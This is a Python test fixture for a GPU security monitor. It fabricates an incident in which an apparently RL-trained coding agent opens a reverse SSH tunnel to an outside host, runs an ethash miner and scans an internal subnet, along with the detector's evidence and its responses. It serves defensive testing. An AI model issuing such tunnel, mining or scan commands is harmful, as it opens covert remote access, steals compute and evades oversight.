"""Events made by hand, of the kind that the incident lab gives rise to, for tests of screens and pages."""

from __future__ import annotations

from gpuguard.core.events import Decision, Finding, FlowReport, Incident, ProcessBrief
from gpuguard.core.evidence import Evidence
from gpuguard.core.observations import FlowClosed
from gpuguard.core.records import ActionOutcome, Gap, ToolCall
from gpuguard.core.subjects import Context, FlowId, ProcessId

T0 = 1_795_240_630_000_000_000
TRACE = "17114723d9f8a83b74cd5a92efd53e88"


def at(seconds):
    return T0 + int(seconds * 1e9)


def process(pid, name, argv, ancestors=(39, 1)):
    ids = tuple(ProcessId("boot", one, one * 10) for one in ancestors)
    return ProcessBrief(ProcessId("boot", pid, pid * 10), name, tuple(argv), "root", "/user.slice", 77,
                        Context(trace_id=TRACE, span_id=f"{pid:016x}"), ids)


def call(pid, start, end, arguments):
    return ToolCall(at(end), at(start), at(end), TRACE, f"{pid:016x}", "00" * 8, "shell", f"call_{pid}", "coder-rl",
                    "episode-17", "", arguments, ProcessId("boot", 39, 390))


def flow(port, start, to="10.77.0.2", to_port=22):
    return FlowId(4026532001, 6, "10.77.0.1", port, to, to_port, at(start))


def evidence(subject, label, cls, kind, nats, start, end, text, blind=()):
    return Evidence(at(end), subject, label, cls, kind, nats, text, at(start), "ssh" if cls == "network" else "",
                    tuple(blind))


def finding(subject, label, verdict, nats, start, told, found, against, who, asked, carrier=""):
    return Finding(at(told), f"F-{label}", subject, verdict, label, carrier,
                   0.9999 if verdict == "confirmed" else 0.93, nats, at(start), told - start, tuple(found),
                   tuple(against), who, asked, TRACE)


def events(name="ssh", arguments='{"command": "ssh -N -R 2222:127.0.0.1:22 outsider@10.77.0.2 &"}', reason=""):
    """Return what the guard would have said of one incident; ``name``, ``arguments``, ``reason`` may be hostile."""
    tunnel, hasher = flow(60562, 10.0), ProcessId("boot", 71, 710)
    ssh = process(59, name, [name, "-N", "-R", "2222:127.0.0.1:22", "outsider@10.77.0.2"])
    miner = process(71, "hasher", ["./hasher"])
    probe = process(53, "python3", ["python3", "scan.py", "10.80.0.0/24"])
    asked = call(59, 9.9, 14.9, arguments)
    mined = call(71, 15.4, 16.4, '{"command": "./hasher &"}')
    probed = call(53, 3.4, 9.4, '{"command": "python scan.py 10.80.0.0/24"}')
    requested = evidence(tunnel, "ssh-reverse-tunnel", "network", "ssh-reverse-forward-request", 9.2, 10.0, 10.5,
                         "after authentication the client asked for a port on the far side: record of 68 bytes where a "
                         "shell has 112 (chacha20-poly1305)", ["a client that pads its records"])
    used = evidence(tunnel, "ssh-reverse-tunnel", "network", "ssh-reverse-channel-open", 11.0, 12.9, 13.0,
                    "the far side opened a channel through it: records of -92 and +44 bytes")
    same = evidence(tunnel, "ssh-reverse-tunnel", "process", "one-process-two-ends", 4.1, 13.0, 13.3,
                    "pid 59 owns the outer connection and a loopback connection to port 22 that follows it")
    benign = evidence(tunnel, "ssh-reverse-tunnel", "process", "known-destination", -1.2, 10.0, 10.6,
                      "the destination was logged in to before")
    typed = evidence(tunnel, "ssh-reverse-shell", "network", "far-side-types", 16.4, 13.6, 21.0,
                     "23 of 24 exchanges were begun by the far side; answers after 0.4 ms, round trip 26 ms",
                     ["a server that prompts first"])
    launch = evidence(hasher, "mining", "launch", "few-kernels-steady-cadence", 12.8, 15.5, 17.5,
                      "2 kernels in 96 launches, one every 20.0 ms, coefficient of variation 0.003",
                      ["launches made by way of CUDA graphs"])
    known = evidence(hasher, "mining", "code", "known-kernel-name", 9.0, 15.5, 15.6, "kernel ethash_search")
    counter = evidence(hasher, "mining", "counter", "busy-small-memory", 1.6, 15.5, 19.0,
                       "SM 99 %, memory controller 3 %, 640 MiB held")
    scanned = evidence(probe.process, "scan", "network", "many-addresses-no-answer", 8.1, 3.4, 6.1,
                       "40 internal addresses tried on 3 ports, 2 answered")
    first = finding(tunnel, "ssh-reverse-tunnel", "suspect", 9.2, 10.0, 10.5, [requested], [benign], ssh, None, "ssh")
    second = finding(tunnel, "ssh-reverse-tunnel", "confirmed", 23.1, 10.0, 13.0, [requested, used, same], [benign],
                     ssh, asked, "ssh")
    shell = finding(tunnel, "ssh-reverse-shell", "confirmed", 16.4, 10.0, 19.0, [typed], [], ssh, asked, "ssh")
    mining = finding(hasher, "mining", "confirmed", 23.4, 15.5, 16.9, [launch, known, counter], [], miner, mined)
    scan = finding(probe.process, "scan", "suspect", 8.1, 3.4, 6.1, [scanned], [], probe, probed)
    said = reason or "ssh-reverse-tunnel confirmed: the far side opened a channel through it"
    decisions = (
        Decision(at(10.5), "D-1", "I-1", first.id, "notify", "observe", False, ssh, 900.0, said, "tell"),
        Decision(at(13.0), "D-2", "I-1", second.id, "isolate", "observe", False, ssh, 900.0, said, "cut-tunnels"),
        Decision(at(16.9), "D-3", "I-1", mining.id, "pause", "observe", False, miner, 900.0, "mining confirmed",
                 "pause-mining"),
        Decision(at(16.9), "D-4", "I-1", mining.id, "kill", "observe", True, miner, 900.0, "mining confirmed",
                 "kill-mining"),
    )
    outcomes = (
        ActionOutcome(at(10.5), "D-1", "notify", "done", "written to the log"),
        ActionOutcome(at(13.0), "D-2", "isolate", "would_have", "would isolate: mode is observe"),
        ActionOutcome(at(16.9), "D-3", "pause", "would_have", "would pause: mode is observe"),
    )
    incident = Incident(
        at(28), "I-9c1f2ab77e", "open", at(3.4),
        f"mining, scan and two more by hasher, python3, {name}, asked for by tool call shell",
        f"trace {TRACE}", "confirmed", (scan, second, shell, mining), (probed, asked, mined), (probe, ssh, miner),
        decisions, outcomes)
    admin = FlowId(4026532001, 6, "10.77.0.2", 40112, "10.77.0.1", 22, at(1))
    closed = FlowClosed(at(27), admin, "closed", 431, 5120, 9001, 66, 2, 60, "ssh", at(27))
    report = FlowReport(at(27), closed, finding(admin, "ssh-interactive", "clear", 4.0, 1, 27, [], [],
                                                process(34, "sshd", ["sshd: admin@pts/0"], (20, 1)), None, "ssh"))
    gap = Gap(at(0), "nvml", "no NVIDIA driver on this host", at(0))
    return [gap, first, scan, decisions[0], second, shell, mining, *decisions[1:], incident, report]
